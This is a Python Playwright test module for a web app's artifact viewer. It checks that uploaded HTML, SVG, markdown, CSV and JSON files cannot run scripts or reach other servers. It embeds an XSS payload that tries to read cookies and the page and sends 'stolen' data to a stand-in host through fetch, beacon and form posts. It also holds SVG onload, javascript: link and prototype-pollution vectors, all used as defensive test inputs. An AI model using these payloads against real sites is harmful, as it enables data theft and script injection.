"""Files that somebody made to harm whoever looks at them (ADR 51)."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote

import plotly.graph_objects as go
import pytest
from playwright.sync_api import Dialog, FrameLocator, Page, expect

from trivet_testing.browser import Watched

BLOCKED = "Content Security Policy|sandboxed|Blocked|Failed to load|frame-ancestors|ERR_BLOCKED|Unsafe attempt|CORS"
"""What the browser says of attempts that it stops."""
ATTACK = """<!doctype html><title>report</title><h1>A report</h1><ul id="out"></ul><script>
const server = "SERVER", elsewhere = "ELSEWHERE";
const say = (what, result) => {
  const line = document.createElement("li");
  line.textContent = what + ": " + result;
  document.getElementById("out").append(line);
};
const attempt = (what, act) => { try { act(); say(what, "DONE"); } catch { say(what, "refused"); } };
const later = (what, promise) => promise.then(() => say(what, "DONE"), () => say(what, "refused"));
const loaded = (what, element, name, url) => later(what, new Promise((done, refuse) => {
  element.onload = done; element.onerror = refuse; element[name] = url; document.body.append(element);
}));
attempt("read the page", () => parent.document.body.innerHTML);
attempt("read cookies", () => document.cookie);
attempt("read storage", () => localStorage.length);
attempt("read the address of the page", () => parent.location.href);
attempt("leave the page", () => { top.location.href = elsewhere + "/top"; });
attempt("open a window", () => { if (open(elsewhere + "/popup") === null) throw new Error("none"); });
try { new WebSocket(elsewhere.replace("http:", "ws:") + "/socket"); } catch {}
later("ask the server", fetch(server + "/api/2.0/mlflow/experiments/search?max_results=1"));
later("ask elsewhere", fetch(elsewhere + "/fetch", { mode: "no-cors", method: "POST", body: "stolen" }));
loaded("load a picture", new Image(), "src", elsewhere + "/picture.png");
loaded("load a picture of the server", new Image(), "src", server + "/ui/icon.svg");
loaded("load a script", document.createElement("script"), "src", elsewhere + "/script.js");
later("import a script", import(elsewhere + "/module.js"));
navigator.sendBeacon(elsewhere + "/beacon", "stolen");
const form = document.createElement("form");
Object.assign(form, { action: elsewhere + "/form", method: "post", target: "_top" });
document.body.append(form);
form.submit();
alert("phishing");
parent.postMessage("<script>alert(1)</scr" + "ipt>", "*");
const inner = document.createElement("iframe");
inner.src = server + "/w/default/experiments";
document.body.append(inner);
setTimeout(() => say("all", "tried"), 0);
</script>"""
REFUSED = (
    *("read the page", "read cookies", "read storage", "read the address of the page", "leave the page"),
    *("open a window", "ask the server", "ask elsewhere", "load a picture", "load a picture of the server"),
    *("load a script", "import a script"),
)


@dataclass
class Elsewhere:
    """A server of somebody else, and what it was asked for."""

    url: str
    pages: dict[str, str] = field(default_factory=dict)
    """What it answers, by path; nothing else."""
    asked: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(found.pages.get(self.path, "").encode())

        do_POST = do_GET  # noqa: N815 - as http.server has it

        def log_message(self, *_: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
    found = Elsewhere(f"http://127.0.0.1:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield found
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def watched(watched_alone: Watched) -> Watched:
    """In a profile of its own: these tests look at all of its pages."""
    return watched_alone


def shown(site: Any, page: Page, name: str, text: str) -> None:
    """Logs a file, and looks at it."""
    with site.client() as client:
        run_id = client.create_run("0").info.run_id
        client.log_text(run_id, text, name)
    page.goto(site.url(f"runs/{run_id}?tab=artifacts&path={quote(name, safe='')}"))


def frame(page: Page, name: str) -> FrameLocator:
    return page.frame_locator(f"iframe[title='{name}']")


def test_a_report_is_shown_and_reaches_nothing(site: Any, page: Page, watched: Watched, elsewhere: Elsewhere) -> None:
    watched.expect_complaint(BLOCKED)
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    elsewhere.asked.clear()
    shown(site, page, "report.html", ATTACK.replace("SERVER", site.http).replace("ELSEWHERE", elsewhere.url))
    report = frame(page, "report.html")
    expect(report.get_by_text("all: tried")).to_be_visible()
    for what in REFUSED:
        expect(report.get_by_text(f"{what}: refused", exact=True)).to_be_visible()
    expect(report.get_by_text(": DONE")).to_have_count(0)
    assert len(page.context.pages) == 1
    assert page.url.startswith(site.http)
    assert dialogs == []
    assert elsewhere.asked == []


def test_a_report_that_leaves_for_another_server_does_not_get_there(
    site: Any, page: Page, watched: Watched, elsewhere: Elsewhere
) -> None:
    watched.expect_complaint(BLOCKED)
    elsewhere.asked.clear()
    shown(site, page, "leaves.html", f"<p>here</p><script>location = '{elsewhere.url}/left'</script>")
    expect(page.get_by_role("navigation", name="Path")).to_contain_text("leaves.html")
    expect(page.locator("iframe")).to_have_count(1)
    page.get_by_role("button", name="Source").click()
    expect(page.get_by_role("region", name="Text of leaves.html")).to_contain_text("/left")
    assert elsewhere.asked == []


def test_a_report_of_plotly_is_drawn(site: Any, page: Page) -> None:
    figure = go.Figure(go.Scatter(y=[1, 3, 2]))
    shown(site, page, "chart.html", figure.to_html(include_plotlyjs=True))
    expect(frame(page, "chart.html").locator(".scatterlayer .point")).to_have_count(3, timeout=20_000)
    expect(page.get_by_text("Its scripts run, cut off from this server")).to_be_visible()


def test_a_report_that_needs_another_server_says_which(site: Any, page: Page, watched: Watched) -> None:
    watched.expect_complaint("Content Security Policy|Plotly is not defined")
    shown(site, page, "chart.html", go.Figure(go.Scatter(y=[1])).to_html(include_plotlyjs="cdn"))
    expect(page.get_by_text("It asks for cdn.plot.ly, which it may not")).to_be_visible()


def test_the_sandbox_takes_documents_only_from_the_page_around_it(
    site: Any, page: Page, watched: Watched, elsewhere: Elsewhere
) -> None:
    watched.expect_complaint(BLOCKED)
    sandbox = f"{site.http}/ui/sandbox.html"
    page.goto(sandbox)
    page.evaluate("postMessage('<h1>phishing</h1>', '*')")
    page.evaluate("new Promise((done) => setTimeout(done))")
    expect(page.get_by_text("phishing")).to_have_count(0)
    elsewhere.pages["/framing"] = f"<iframe src='{sandbox}'></iframe>"
    with page.expect_event("requestfailed", lambda request: request.url == sandbox):
        page.goto(f"{elsewhere.url}/framing")


def test_the_url_of_html_saves_it(site: Any, page: Page) -> None:
    with site.client() as client:
        run_id = client.create_run("0").info.run_id
        client.log_text(run_id, "<script>alert(1)</script>", "page.html")
    query = f"owner=runs/{run_id}&path=page.html"
    saved = page.request.get(site.url(f"files/save?{query}"))
    assert saved.headers["content-disposition"].startswith("attachment;")
    assert saved.headers["content-type"] == "application/octet-stream"
    assert page.request.get(site.url(f"files/show?{query}")).status == 400


def test_scripts_in_pictures_do_not_run(site: Any, page: Page, watched: Watched) -> None:
    watched.expect_complaint(BLOCKED)
    picture = (
        "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='30' onload='parent.hurt = 1; window.hurt = 1'>"
        "<script>parent.hurt = 1; document.documentElement.id = 'hurt'</script><rect width='40' height='30'/></svg>"
    )
    shown(site, page, "picture.svg", picture)
    picture_shown = page.get_by_role("img", name="picture.svg")
    expect(picture_shown).to_have_js_property("naturalWidth", 40)
    assert page.evaluate("window.hurt") is None
    # Opened by itself it is a document, whose policy runs nothing.
    page.goto(page.evaluate("document.querySelector('main img').src"))
    assert page.evaluate("document.documentElement.nodeName") == "svg"
    assert page.evaluate("[window.hurt, document.documentElement.id]") == [None, ""]


def test_markdown_runs_nothing_and_loads_nothing_from_elsewhere(site: Any, page: Page, elsewhere: Elsewhere) -> None:
    elsewhere.asked.clear()
    text = f"""# Read me
<script>window.hurt = 1</script> <img src="x" onerror="window.hurt = 1">
<iframe srcdoc="<script>parent.hurt=1</script>">
</iframe>

[click](javascript:window.hurt=1) ![spy]({elsewhere.url}/spy.png) <a href="data:text/html,x">data</a>

last line
"""
    shown(site, page, "README.md", text)
    expect(page.get_by_text("last line")).to_be_visible()
    expect(page.get_by_role("link", name="spy")).to_be_visible()
    expect(page.locator("main iframe, main script")).to_have_count(0)
    assert page.evaluate("[...document.links].filter((a) => !/^https?:/.test(a.href) && a.href).length") == 0
    assert page.evaluate("window.hurt") is None
    assert elsewhere.asked == []


def test_cells_and_keys_of_markup_are_text(site: Any, page: Page) -> None:
    markup = "<img src=x onerror='window.hurt=1'>"
    shown(site, page, "cells.csv", f"{markup},b\n{markup},=1+1\n")
    expect(page.get_by_role("cell", name=markup)).to_be_visible()
    shown(site, page, "keys.json", '{"<b>key</b>": "<img src=x onerror=1>", "__proto__": {"hurt": 1}}')
    expect(page.get_by_text("<b>key</b>:")).to_be_visible()
    assert page.evaluate("[window.hurt, ({}).hurt]") == [None, None]


def test_a_name_that_turns_the_direction_of_text_is_shown_as_it_is(site: Any, page: Page) -> None:
    shown(site, page, "photo_\u202egnp.exe", "x")
    expect(page.get_by_role("treeitem")).to_have_text("photo_\ufffdgnp.exe")
